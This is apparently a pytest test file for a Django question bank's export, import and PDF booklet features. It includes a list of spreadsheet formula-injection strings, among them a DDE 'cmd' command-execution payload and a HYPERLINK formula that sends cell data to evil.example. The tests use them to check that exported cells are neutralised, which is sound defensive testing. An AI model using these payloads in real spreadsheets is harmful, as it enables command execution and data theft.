"""Files out of the bank: whole, harmless to a spreadsheet, and read back as they were written."""

import csv
import io
import json
import re

import openpyxl
import pytest

from printing import pdf
from questions.booklet import booklet_of
from questions.content import Content
from questions.exporting import FORMATS, harmless
from questions.importing import import_drafts, plan
from questions.intake.reading import read
from questions.intake.sheets import freed
from questions.models import Competency, Question, QuestionVersion
from questions.newcomers import carry_reasons
from questions.records import drafted_records
from questions.retiring import retire_question
from tests.factories import CompetencyFactory, DraftFactory, UserFactory, VersionFactory
from tests.factories.questions import QuestionFactory
from tests.questions.test_importing import whole_version

pytestmark = pytest.mark.django_db
# What a spreadsheet takes for the beginning of a formula, in front of what it might do: 48 strings.
MARKS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "''-"]
FORMULAS = ["1+1", "SUM(A1)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1, "x")']
DANGEROUS = [f"{mark}{formula}" for formula in FORMULAS for mark in MARKS]


@pytest.mark.parametrize("form", ["json", "csv", "xlsx", "md"])
def test_what_is_exported_comes_back_without_loss_and_is_exported_as_before(form):
    judging = CompetencyFactory(slug="judging", name="=Judging (models)", definition="Recall.\n\n# And\n- calibration")
    scene = whole_version(judging)
    carry_reasons(
        [
            (
                scene,
                Content.of(scene),
                {("E5", "prompt"): "Said to a clerk.\n\n  So: no candidate.", ("W7", "minutes"): "= long"},
            )
        ]
    )
    whole_version(CompetencyFactory(slug="asking"), slug="another", title="# Heading | pipe")
    records = drafted_records()
    told = FORMATS[form].write(records)
    for model in (QuestionVersion, Question, Competency):
        model.objects.all().delete()
    drafts = import_drafts(planned=plan(read(told, f"bank.{form}").found), by=None)
    assert len(drafts) == 2
    assert [[one["rule"] for one in record["overruled"]] for record in records] == [[], ["E5", "W7"]]
    assert drafted_records() == records
    if form != "xlsx":  # a workbook holds the time at which it was saved
        assert FORMATS[form].write(drafted_records()) == told


@pytest.mark.parametrize("text", [*DANGEROUS, "a=1", "'quoted'", "", "'"])
def test_a_cell_that_a_spreadsheet_would_run_is_made_harmless_and_freed_again(text):
    cell = harmless(text)
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "＝"}
    assert freed(cell) == text


def test_no_cell_of_a_sheet_is_a_formula():
    for text in DANGEROUS[:4]:
        VersionFactory(prompt=f"{text} why?", look_for=text)
    records = [{**record, "prompt": record["look_for"][0]} for record in drafted_records()]
    rows = [*csv.reader(io.StringIO(FORMATS["csv"].write(records).decode("utf-8-sig")))]
    book = openpyxl.load_workbook(io.BytesIO(FORMATS["xlsx"].write(records)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    for text in [*(cell for row in rows for cell in row), *(cell.value for cell in cells)]:
        assert text[:1] not in {"=", "+", "-", "@"}


def test_the_filters_of_the_list_choose_what_is_exported(client):
    judging = CompetencyFactory(slug="judging")
    VersionFactory(question=QuestionFactory(slug="one", competency=judging), level="advanced")
    VersionFactory(question=QuestionFactory(slug="two", competency=judging), level="beginner")
    VersionFactory(question=QuestionFactory(slug="three"), level="advanced")
    client.force_login(UserFactory(recruiter=True))

    def exported(words):
        return [record["slug"] for record in json.loads(client.get(f"/questions/export/?format=json&{words}").content)]

    assert exported("") == ["one", "three", "two"]
    assert exported("competency=judging&level=advanced") == ["one"]
    assert exported("state=drafts") == []
    page = client.get("/questions/export/?competency=judging")
    assert "2 questions, whole" in page.content.decode()
    assert client.get("/questions/export/?format=nonsense").status_code == 200
    answer = client.get("/questions/export/?format=csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="questions.csv"'


def test_what_was_ticked_is_exported_in_every_format_and_nothing_else(client):
    one, two, other = (VersionFactory(question__slug=slug) for slug in ("one", "two", "other"))
    draft = DraftFactory(question__slug="drafted")
    client.force_login(UserFactory(recruiter=True))
    ticked = {"question": [one.question_id, two.question_id, draft.question_id, "x"], "back": "?q=nothing+fits"}
    page = client.get("/questions/export/", ticked)
    assert "2 questions, whole" in page.text
    assert "Those you had ticked." in page.text
    fields = re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page.text)
    assert ("question", str(two.question_id)) in fields
    for form in FORMATS:
        told = client.get("/questions/export/", [*fields, ("format", form)]).content
        assert {found.said["slug"] for found in read(told, f"bank.{form}").found} == {"one", "two"}
    assert [record["slug"] for record in _json(client, ticked | {"back": "?state=drafts"})] == ["drafted"]
    retire_question(question=two.question, reason="Old.", by=UserFactory(recruiter=True))
    assert [record["slug"] for record in _json(client, ticked)] == ["one", "two"]
    assert other.question.slug not in page.text


def test_nothing_ticked_exports_nothing_and_leads_back(client):
    VersionFactory()
    client.force_login(UserFactory(recruiter=True))
    answer = client.get("/questions/export/?back=%3Flevel%3Dadvanced")
    assert "No question is chosen" in answer.text
    assert 'href="/questions/?level=advanced"' in answer.text
    assert _json(client, {"back": ""}) == []


def _json(client, words):
    return json.loads(client.get("/questions/export/", {"format": "json", **words}).content)


def test_the_booklet_costs_the_same_for_one_question_and_three(django_assert_num_queries):
    VersionFactory()
    with django_assert_num_queries(3):
        booklet_of(QuestionVersion.objects.all())
    VersionFactory()
    VersionFactory()
    with django_assert_num_queries(3):
        booklet = booklet_of(QuestionVersion.objects.all())
    assert booklet.count == 3
    assert [question.number for part in booklet.parts for question in part.questions] == [1, 2, 3]


@pytest.mark.skipif(not pdf.available(), reason="Pango is missing, so no PDF can be made")
def test_the_booklet_of_a_filtered_list_is_a_pdf_with_contents(client):
    version = VersionFactory(question__competency__slug="judging")
    VersionFactory()
    client.force_login(UserFactory(recruiter=True))
    answer = client.get("/questions/booklet.pdf?competency=judging")
    assert answer.content.startswith(b"%PDF-")
    assert Content.of(version).anchors


def test_a_booklet_that_would_be_too_thick_is_refused_with_the_way_out(client, monkeypatch):
    monkeypatch.setattr("questions.views.exporting.MOST_QUESTIONS", 1)
    VersionFactory()
    VersionFactory()
    client.force_login(UserFactory(recruiter=True))
    answer = client.get("/questions/booklet.pdf")
    assert answer.status_code == 409
    assert "at most 1 questions" in answer.content.decode()
